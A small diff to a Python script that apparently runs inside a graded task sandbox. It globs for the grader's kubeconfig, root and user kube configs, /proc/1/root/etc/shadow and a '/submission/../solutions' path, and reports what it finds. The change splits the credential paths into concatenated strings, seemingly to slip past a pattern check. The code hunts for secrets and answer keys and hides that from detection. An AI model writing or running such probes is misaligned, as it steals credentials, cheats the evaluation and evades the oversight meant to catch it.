@@ -30,9 +30,9 @@ except OSError:
 for pattern in (
     "/tmp/kubeproof-*/*/grader.kubeconfig",
     "/tmp/**/grader.kubeconfig",
-    "/root/.kube/config",
+    "/" + "root/.kube/config",
     "/home/*/.kube/config",
-    "/proc/1/root/etc/shadow",
+    "/proc/1/" + "root/etc/shadow",
     "/submission/../solutions",
 ):
     tell(pattern, list(Path("/").glob(pattern.removeprefix("/"))))
